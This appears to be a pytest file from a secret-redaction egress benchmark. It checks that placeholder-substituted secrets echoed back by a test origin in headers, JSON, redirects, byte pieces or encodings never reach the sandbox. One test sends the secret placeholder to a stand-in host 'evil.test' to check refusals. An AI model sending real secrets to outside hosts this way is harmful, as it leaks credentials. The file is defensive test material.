# SPDX-License-Identifier: Apache-2.0
"""Cases 64 to 74 as far as this build goes: a value that comes back is taken out again."""

import base64
import json
import urllib.parse

import pytest
from egress_bench import S1, forms_of


@pytest.fixture(scope="module")
def p1(box) -> str:
    return box.placeholder("S1")


def without_value(text: bytes) -> None:
    for form in forms_of(S1):
        assert form not in text


def test_case_64_echoed_headers(lab, box, p1):
    out = box.curl("https://api.test/headers", "-H", f"x-key: {p1}")
    assert lab.good.last().header("x-key") == S1
    without_value(out.stdout)
    assert f"x-key: {p1}" in out.text


def test_case_64_echoed_as_json(lab, box, p1):
    out = box.curl("https://api.test/echo", "-H", f"Authorization: Bearer {p1}")
    without_value(out.stdout)
    assert ["Authorization", f"Bearer {p1}"] in json.loads(out.text)["headers"]


def test_case_64_in_a_redirect(lab, box, p1):
    out = box.curl("-i", f"https://api.test/redirect?to=https://api.test/?k={p1}")
    assert b"302" in out.stdout
    without_value(out.stdout)


def test_case_65_cut_at_every_byte(lab, box, p1):
    """The origin's answer arrives in pieces of every size; the value never comes through whole."""
    for size in (1, 2, 3, 7, 16, len(S1) - 1, len(S1), len(S1) + 1):
        out = box.curl(f"https://api.test/pieces?size={size}", "-H", f"x-key: {p1}")
        assert out.code == 0, out.stderr
        without_value(out.stdout)
        assert len(out.stdout) == len("before  after") + len(p1), size
        # What is short enough to be guessed goes out at once; all after it is the placeholder's.
        assert S1[20:].encode() not in out.stdout, size


@pytest.mark.parametrize("form", ["base64", "basic", "hex", "percent"])
def test_case_67_encoded(lab, box, p1, form):
    out = box.curl(f"https://api.test/encoded?as={form}", "-H", f"x-key: {p1}")
    assert out.code == 0, out.stderr
    without_value(out.stdout)
    assert b"".join(b"%%%02X" % c for c in S1.encode()) not in out.stdout
    assert lab.good.last().header("x-key") == S1


def test_case_68_no_ranges_of_a_redacting_host(lab, box, p1):
    box.curl("https://api.test/echo", "-H", "Range: bytes=0-0", "-H", f"x-key: {p1}")
    assert lab.good.last().header("range") is None
    assert lab.good.last().header("accept-encoding") in ("identity", None)


def test_case_69_also_without_a_placeholder_in_the_request(lab, box):
    """Create-then-read: the value was stored before, and is asked for by another request."""
    out = box.curl("https://api.test/stored")
    assert out.code == 0, out.stderr
    without_value(out.stdout)


def test_case_74_refusals_hold_nothing_secret(lab, box, p1):
    for url in ("https://api.test/a/" + p1, "http://api.test/?k=" + p1, "http://evil.test/" + p1):
        out = box.curl("-i", url)
        without_value(out.stdout)
        without_value(urllib.parse.unquote(out.text).encode())
        without_value(base64.b64encode(out.stdout))
